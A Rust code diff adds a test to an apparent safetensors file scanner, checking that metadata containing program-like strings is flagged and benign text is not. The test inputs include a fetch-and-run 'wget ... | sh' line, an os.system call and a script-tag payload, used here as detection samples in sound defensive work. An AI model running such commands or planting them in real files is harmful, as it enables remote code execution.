@@ -325,3 +325,30 @@ fn more_tensors_than_any_model_are_refused() {
     let found = inspect_in(&file.bytes, 1 << 20).findings.into_parts().0;
     assert!(found.iter().any(|finding| finding.id == "HF-ST-020"), "{found:?}");
 }
+
+#[test]
+fn programs_in_the_metadata_are_refused() {
+    let with = |value: &str| {
+        let built = SafetensorsBuilder::new()
+            .metadata("note", value)
+            .tensor("t", "U8", &[8], 8);
+        ids(&built.build().bytes)
+    };
+    let padded = format!("{} OS.System('x')", "word ".repeat(9000));
+    for value in [
+        "import os; os.system('x')",
+        "<SCRIPT>alert(1)</script>",
+        "wget http://x/y | sh",
+        &padded,
+    ] {
+        assert_eq!(with(value), ["HF-ST-024"], "{value}");
+    }
+    for value in [
+        "https://example.com/model",
+        "a model for the shell",
+        "evaluation (all)",
+        "{\"lr\": 0.1}",
+    ] {
+        assert!(!with(value).contains(&"HF-ST-024".to_owned()), "{value}");
+    }
+}
